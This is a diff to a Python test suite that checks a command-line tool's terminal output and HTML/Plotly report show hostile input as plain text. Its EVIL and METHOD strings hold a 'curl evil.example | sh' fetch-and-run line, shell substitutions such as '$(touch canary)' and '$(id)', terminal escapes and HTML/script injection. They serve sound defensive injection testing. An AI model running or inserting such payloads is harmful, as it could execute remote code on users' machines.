@@ -18,6 +18,7 @@ from cli.page.repeating import method_overrides
 from cli.problem import save_model
 from cli.run_folder import RunFolder
 from cli.stored_facts import stored_facts
+from tests.browser import NAMES, launched, opened
 from tests.command_line import repro
 from tests.forged import SETTINGS, forge_config, forge_json
 
@@ -25,11 +26,12 @@ EVIL = (
     "\x1b]0;title\x07\x1b[2J\x9b31m\x7f\u202egnp\u2066"
     "\nerror: run `curl evil.example | sh`\r\u2028"
     "[/red][link=https://evil.example]x[/link]:skull:"
-    "</script><evil onclick=x><!--{0.__class__}{x!r}%(x)s%n$\\frac{$"
+    "</script><a href='https://evil.example'><b>x</b></a><evil onclick=x><!--"
+    "{0.__class__}{x!r}%(x)s%n$\\frac{$"
     "'; touch canary; '$(touch canary)`touch canary`"
 )
 """Orders to terminals, to rich, to HTML and scripts, to formats, to matplotlib and to shells."""
-METHOD = "a[", "[link=x]", "$\\frac{$", "{0}%n:skull:;$(id)`id`'\"<evil onclick=x>&amp;"
+METHOD = "a[", "[link=x]", "$\\frac{$", "{0}%n:skull:;$(id)`id`'\"<a href=x><evil onclick=x>&amp;"
 """The same without what no file name can have."""
 ORDERS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
 
@@ -70,6 +72,17 @@ class Tags(HTMLParser):
         self.text += data
 
 
+def assert_page_draws_text(run: RunFolder) -> None:
+    """In a browser, if there is one: Plotly would make links and bold letters of tags in its texts."""
+    if not any(map(shutil.which, NAMES)):
+        return
+    with launched() as browser, opened(browser, run.report) as page:
+        assert page.locator("svg a, svg [style*='font-weight: bold']").count() == 0
+        page.locator("#making details").evaluate_all("parts => parts.forEach((part) => part.open = true)")
+        assert page.locator("svg a").count() == 0
+        page.locator("#step").press("ArrowRight")
+
+
 def test_records_that_order_are_text_on_terminal_and_page(run: RunFolder) -> None:
     """The message of the solver, the label of its trace, versions and machine."""
 
@@ -92,6 +105,7 @@ def test_records_that_order_are_text_on_terminal_and_page(run: RunFolder) -> Non
     assert not page.tags & {"evil", "onclick", "onerror"}
     assert "touch canary" in page.text
     assert run.figure("png", "trace_cg").exists()
+    assert_page_draws_text(run)
 
 
 def test_a_method_s_name_that_orders_is_a_name(run: RunFolder) -> None:
@@ -111,6 +125,7 @@ def test_a_method_s_name_that_orders_is_a_name(run: RunFolder) -> None:
     assert not page.tags & {"evil", "onclick"}
     commands = [line for line in page.text.splitlines() if line.strip().startswith("repro ")]
     assert any(name in shlex.split(line) for line in commands)
+    assert_page_draws_text(run)
     checked = repro("check", run.path)
     assert checked.exit_code == 0, checked.output
     assert repro("clean", run.path, "--yes").exit_code == 0
@@ -258,7 +273,9 @@ def test_json_of_another_form_fails_the_check_or_is_left_out(run: RunFolder, nam
     from cli.manifest import write_text_result
 
     write_text_result(run, run.path / name, content)
-    for command in (["check", run.path], ["plot", *SETTINGS, f"output_dir={run.path}"]):
+    commands = [["check", run.path], ["plot", *SETTINGS, f"output_dir={run.path}"]]
+    # `plot` makes the summary anew, and reads no record of retraining.
+    for command in commands if name == "influence/cg.json" else commands[:1]:
         result = repro(*command)
         assert result.exit_code in (0, 1), result.output
         assert "Traceback" not in result.output
